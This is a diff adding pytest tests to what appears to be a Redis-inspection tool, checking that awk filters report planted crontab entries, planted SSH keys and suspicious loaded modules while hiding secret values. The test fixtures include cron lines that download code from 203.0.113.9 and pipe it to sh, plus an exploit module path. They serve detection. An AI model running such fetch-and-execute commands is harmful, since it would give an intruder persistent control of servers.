@@ -223,3 +223,55 @@ def test_what_it_does_not_tell_is_not_nobody(read: object, lines: list[str], rea
 )
 def test_what_only_keeps_a_connection(commands: set[str], keeps: bool) -> None:
     assert Connections(WEB, OWN, commands=frozenset(commands)).keeps_alive is keeps
+
+
+# Traces of an intruder
+
+CRON = "\n\n*/2 * * * * root cd1 -fsSL http://203.0.113.9/x | sh\n\n"
+
+
+def traced(awk: tuple[str, ...], question: str, *lines: str) -> list[str]:
+    asked = f"ECHO @1\n{question}\nECHO @2\nINFO commandstats"
+    text = "\n".join(("r", '"@1"', *lines, '"@2"', "cmdstat_get:calls=1", ""))
+    said = filtered(awk, "connections.awk", text, questions=asked).splitlines()
+    assert said[:2] + said[-2:] == ["r", '"@1"', '"@2"', "cmdstat_get:calls=1"]
+    return said[2:-2]
+
+
+@pytest.mark.parametrize("awk", AWKS)
+@pytest.mark.parametrize(
+    ("value", "said"),
+    [
+        (CRON, ["planted crontab"]),
+        ("*/1 * * * * curl -s http://203.0.113.9 | sh", ["planted crontab"]),
+        ("\t\n* * * * * /usr/bin/x", ["planted crontab"]),
+        ("\n\nssh-rsa AAAAB3NzaC1yc2E x@y\n", ["planted ssh"]),
+        ("*/5 * * * * /srv/backup --all", []),
+        (SECRET, []),
+        ("", []),
+        ('"@2"', []),
+    ],
+)
+def test_what_a_key_holds_is_said_and_not_shown(
+    awk: tuple[str, ...], value: str, said: list[str]
+) -> None:
+    assert traced(awk, "GETRANGE backup1 0 199", json.dumps(value)) == said
+
+
+@pytest.mark.parametrize("awk", AWKS)
+def test_modules_are_named_without_their_arguments(awk: tuple[str, ...]) -> None:
+    loaded = [
+        ["name", "system", "ver", 1, "path", "/root/exp.so", "args", [SECRET]],
+        ["name", f"{SECRET} x", "ver", 1, "path", "/a b", "args", []],
+    ]
+    line = json.dumps(loaded, separators=(",", ":"))
+    assert traced(awk, "MODULE LIST", line) == ["module system /root/exp.so", "module ? ?"]
+    assert traced(awk, "MODULE LIST", "[]") == ["[]"]
+    plain = ['1) 1) "name"', '   2) "system"', '   3) "ver"', "   4) (integer) 1"]
+    assert traced(awk, "MODULE LIST", *plain) == ["module system"]
+
+
+@pytest.mark.parametrize("awk", AWKS)
+def test_of_an_error_its_code_is_said(awk: tuple[str, ...]) -> None:
+    for question in ("MODULE LIST", "GETRANGE backup1 0 199"):
+        assert traced(awk, question, f'error:"NOPERM {SECRET}"') == ['error:"NOPERM"']
